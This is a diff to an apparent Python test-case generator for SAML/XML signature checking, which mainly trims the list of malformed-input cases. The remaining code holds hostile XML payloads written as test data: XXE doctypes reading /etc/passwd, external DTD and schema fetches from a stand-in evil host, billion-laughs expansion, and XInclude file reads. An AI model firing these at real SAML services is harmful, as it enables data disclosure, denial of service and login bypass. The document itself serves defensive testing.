@@ -35,11 +35,7 @@ def differential(world: World) -> Iterator[Case]:
 def comments(world: World) -> Iterator[Case]:
     """A comment cuts a text in two, and a reader that takes the first half reads another name."""
     yield from refused(COMMENT, world.all, {"comment": _in_texts("<!-- -->")})
-    ends = {
-        "before-the-message": _before("<!-- -->"),
-        "after-the-message": _after("<!-- -->"),
-        "between-elements": _before_the_end("<!-- -->"),
-    }
+    ends = {"before-the-message": _before("<!-- -->"), "after-the-message": _after("<!-- -->")}
     yield from _everywhere(world, COMMENT, {"comment": ends})
 
 
@@ -50,9 +46,7 @@ def instructions(world: World) -> Iterator[Case]:
     yield from refused(INSTRUCTION, world.all, {"processing_instruction": {**_in_texts("<?x victim?>"), **signed}})
     ends = {
         "stylesheet": _before('<?xml-stylesheet href="https://evil.selftest.example/"?>'),
-        "after-the-message": _after("<?x?>"),
         "declaration-after-a-blank": _before('\n<?xml version="1.0"?>'),
-        "two-declarations": _before('<?xml version="1.0"?><?xml version="1.0"?>'),
     }
     yield from _everywhere(world, INSTRUCTION, {"processing_instruction": ends})
 
@@ -120,8 +114,6 @@ def _in_texts(inserted: str) -> Makes:
         "at-the-begin-of-the-name-cve-2017-11428": in_name(0),
         "at-the-end-of-the-name-cve-2017-11429": in_name(-1),
         "in-an-attribute-value-cve-2018-0489": late("Selftest", f"Selftest{inserted}"),
-        "in-the-audience": late("<saml:Audience>https://", f"<saml:Audience>https://{inserted}"),
-        "in-the-level": late("http://eidas.europa.eu/LoA/", f"http://eidas.europa.eu/LoA/{inserted}"),
     }
 
 
@@ -172,17 +164,11 @@ def _last_letter_changed(text: str) -> str:
 _PARAMETERS: Makes = {
     "line-breaks-alone": lambda _: b"".join(secrets.choice((b"\n", b"\r\n")) for _ in range(5_000)),
     "with-a-blank": _parameter(lambda text: f"{text[:8]} {text[8:]}"),
-    "with-a-tab": _parameter(lambda text: f"{text[:8]}\t{text[8:]}"),
-    "with-a-nul": _parameter(lambda text: f"{text[:8]}\0{text[8:]}"),
     "in-the-alphabet-of-urls": _parameter(lambda text: text.replace("+", "-").replace("/", "_")),
     "without-padding": _parameter(lambda text: text.rstrip("=")),
-    "with-more-padding": _parameter(lambda text: f"{text}=="),
     "of-another-spelling": _parameter(_last_letter_changed),
     "with-something-behind": _parameter(lambda text: f"{text}PGE+"),
-    "percent-encoded": _parameter(lambda text: text.replace("=", "%3D")),
     "with-a-letter-that-looks-the-same": _parameter(lambda text: f"\u0420{text[1:]}"),
-    "in-quotes": _parameter(lambda text: f'"{text}"'),
-    "as-a-data-url": _parameter(lambda text: f"data:;base64,{text}"),
 }
 _ENCODINGS: Table = {
     "not_well_formed": {"encoded-twice": _octets(base64.b64encode)},
@@ -192,11 +178,8 @@ _ENCODINGS: Table = {
         "byte-order-mark": _octets(lambda octets: b"\xef\xbb\xbf" + octets),
         "declared-utf-7": _declared_as("UTF-7"),
         "declared-latin-1": _declared_as("ISO-8859-1"),
-        "declared-ebcdic": _declared_as("IBM037"),
-        "declared-utf-16": _declared_as("UTF-16"),
         "xml-1-1": _declared('<?xml version="1.1"?>'),
         "overlong-octets": _octets(lambda octets: octets.replace(b"/metadata<", b"\xc0\xafmetadata<", 1)),
-        "surrogate-octets": _octets(lambda octets: octets + b"\xed\xa0\x80"),
     },
     "root": {"root-of-four-letters": lambda _: f'<evil ID="{fresh("e")}"></evil>'.encode()},
 }
@@ -210,31 +193,19 @@ _READERS: Edits = {
     "doctype": {
         "doctype-cve-2025-25291": _before("<!DOCTYPE samlp:Response>"),
         "doctype-of-attributes-cve-2025-25292": _before('<!DOCTYPE r [<!ATTLIST r ID ID "_victim">]>'),
-        "doctype-of-a-namespace": _before('<!DOCTYPE r [<!ATTLIST r xmlns CDATA "urn:selftest:evil">]>'),
-        "doctype-in-small-letters": _before("<!doctype r>"),
-        "declaration-of-an-element": _before("<!ELEMENT r ANY>"),
         "notation-inside": _before_the_end('<!NOTATION n SYSTEM "x">'),
     },
-    "cdata": {
-        "cdata-in-a-value": _SPLIT_VALUE,
-        "markup-in-cdata": _HIDDEN_VALUE,
-        "empty-cdata": _before_the_end("<![CDATA[]]>"),
-    },
+    "cdata": {"cdata-in-a-value": _SPLIT_VALUE, "empty-cdata": _before_the_end("<![CDATA[]]>")},
     "not_well_formed": {
         "second-root": _after("<samlp:Response/>"),
         "text-behind-the-root": _after("x"),
-        "nul-behind-the-root": _after("\0"),
         "attribute-twice": swap_octets('Version="2.0"', 'Version="2.0" Version="2.0"'),
         "prefix-without-namespace": _before_the_end("<evil:x/>"),
-        "name-that-begins-with-a-colon": _before_the_end("<:x/>"),
         "reference-to-nul": _before_the_end("&#0;"),
-        "reference-to-a-control": _before_the_end("&#1;"),
-        "end-of-cdata-in-a-text": _before_the_end("]]>"),
         "end-tag-missing": lambda octets: octets[: octets.rindex(b"</")],
     },
     "entity": {
         "entity-that-nobody-declared": _before_the_end("&x;"),
-        "entity-of-html": _before_the_end("&nbsp;"),
         "ampersand": _before_the_end("& "),
         "reference-beyond-unicode": _before_the_end("&#x0000000041;"),
         "entity-in-an-attribute": lambda octets: octets.replace(b" ID=", b' e="&x;" ID=', 1),
@@ -243,15 +214,12 @@ _READERS: Edits = {
 _DOCTYPES = {
     "file-cve-2016-10127": 'SYSTEM "file:///etc/passwd"',
     "address-cve-2026-28809": 'SYSTEM "https://evil.selftest.example/x.dtd"',
-    "public-identifier": 'PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"',
     "parameter-entity-cve-2016-10149": '[<!ENTITY % x SYSTEM "https://evil.selftest.example/x.dtd"> %x;]',
     "billion-laughs": '[<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)) + "]",
-    "quadratic-growth": f'[<!ENTITY a "{"a" * 20_000}">]',
 }
 _IN_NAMES = {
     "name-as-an-entity": '<!ENTITY who "{name}">',
     "name-from-a-file": '<!ENTITY who SYSTEM "file:///etc/hostname">',
-    "name-of-two-entities": '<!ENTITY a "{name}"><!ENTITY who "&a;">',
 }
 _XINCLUDE = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
 _LOCATION = 'xsi:schemaLocation="urn:selftest https://evil.selftest.example/x.xsd"'
